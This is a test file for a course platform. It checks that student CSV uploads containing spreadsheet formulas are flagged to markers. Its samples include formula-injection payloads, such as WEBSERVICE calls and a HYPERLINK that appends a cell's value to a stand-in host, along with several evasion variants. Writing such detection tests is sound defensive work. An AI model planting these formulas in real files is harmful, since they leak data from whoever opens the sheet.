import { afterAll, beforeAll, expect, test } from 'vitest'
import { buildCourse, buildEnrolment } from '../../../test/catalogue-factories.ts'
import { buildUser } from '../../../test/people-factories.ts'
import { startTestServer, type TestServer } from '../../../test/server.ts'
import { tusClient, workTusClient } from '../../../test/tus.ts'

let server: TestServer
let admin: string
let course_id: string
let lesson_id: string
beforeAll(async () => {
  server = await startTestServer()
  admin = await server.adminToken()
  const api = server.api(admin)
  course_id = (await buildCourse(server.db)).course_id
  const content = [{ title: 'Your work', kind: 'assignment' as const, watch_link: '' }]
  await api.learning.addContent({ params: { id: course_id }, body: { course_id, content } })
  lesson_id = (await api.learning.adminGetContent({ id: course_id })).content[0]?.lesson_id ?? ''
  const body = { instructions: 'Count.', criteria: [{ text: 'It adds up' }], takes_text: true, due_days: null }
  await api.assignments.save({ params: { lesson_id }, body: { ...body, file_kinds: ['office', 'text'], gate: false } })
})
afterAll(() => server.stop())

/** Submits a file of a new student and returns the marker's view of it. */
async function markerReads(content: string | Buffer, { name = 'Budget.csv', resumable = false } = {}) {
  const user = await buildUser(server.db)
  await buildEnrolment(server.db, { user_id: user.id, course_id })
  const token = await server.userToken(user)
  const { addFile, takeUpload, handIn } = server.api(token).assignments
  const bytes = Buffer.from(content)
  const params = { lesson_id }
  const upload = async () => {
    const tus = workTusClient(server, token)
    const path = await tus.begin(bytes.length, { filename: name, filetype: '', lesson_id })
    await tus.patch(path, 0, bytes)
    return takeUpload({ params, body: { upload_id: path.split('/').at(-1) ?? '' } })
  }
  const form = () => addFile({ params, body: { work_file: new File([new Uint8Array(bytes)], name) } })
  const { file_id } = await (resumable ? upload() : form())
  const { hand_ins } = await handIn({ params, body: { key: `key of ${user.user_id}`, text: 'Here', file_id } })
  return (await server.api(admin).assignments.adminRead({ id: hand_ins[0]?.hand_in_id ?? '' })).file
}

const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le')

test.each([
  ['a link', 'Item,Price\r\nCamera,"=HYPERLINK(""https://a.example/?""&A1,""Sum"")"\r\n'],
  ['a call of a site', 'Item,Price\nCamera,=WEBSERVICE("https://a.example")'],
  ['a plus', 'a,b\n1,+WEBSERVICE("https://a.example")'],
  ['a minus before a digit', 'a,b\n1,-1+WEBSERVICE("https://a.example")'],
  ['a minus and a quoted text', 'a,b\n1,"-(1+""1""+WEBSERVICE(""https://a.example""))"'],
  ['an at sign', 'a,b\n1,@SUM(A1:A2)'],
  ['the very first cell', '=A2\n1'],
  ['spaces in front', 'a,b\n1,  =A1'],
  ['semicolons', 'a;b\n1;=A1'],
  ['tabs', 'a\tb\n1\t=A1'],
  ['a separator of its own', 'sep=#\na#=A1'],
  ['full width', 'a,b\n1,＝A1'],
  ['UTF-16', utf16('a,b\n1,=A1')],
])('a table with a formula is accepted, with a warning for its marker: %s', async (_, content) => {
  expect(await markerReads(content)).toMatchObject({ name: 'Budget.csv', holds_formulas: true })
})

test('a resumable upload reports formulas, too', async () => {
  expect(await markerReads('a,b\n1,=A1', { resumable: true })).toMatchObject({ holds_formulas: true })
})

test.each([
  ['numbers', 'Rise,Phone,None\n-5,+91 98765 43210,-\n"-1,500",+3.5%,-2/3\n'],
  ['an address and a sum in words', 'Mail,Note\nasha@example.com,1+1=2\n'],
])('a table without formulas has no warning: %s', async (_, content) => {
  expect(await markerReads(content)).toMatchObject({ holds_formulas: false })
})

test('a text that is no table has no warning', async () => {
  expect(await markerReads('=A1', { name: 'Notes.txt' })).toMatchObject({ holds_formulas: false })
})

test('the library accepts a table with formulas', async () => {
  const sent = await tusClient(server, admin).send(Buffer.from('a,b\n1,=A1'), { filename: 'a.csv', filetype: '' })
  expect(sent.status).toBe(204)
})
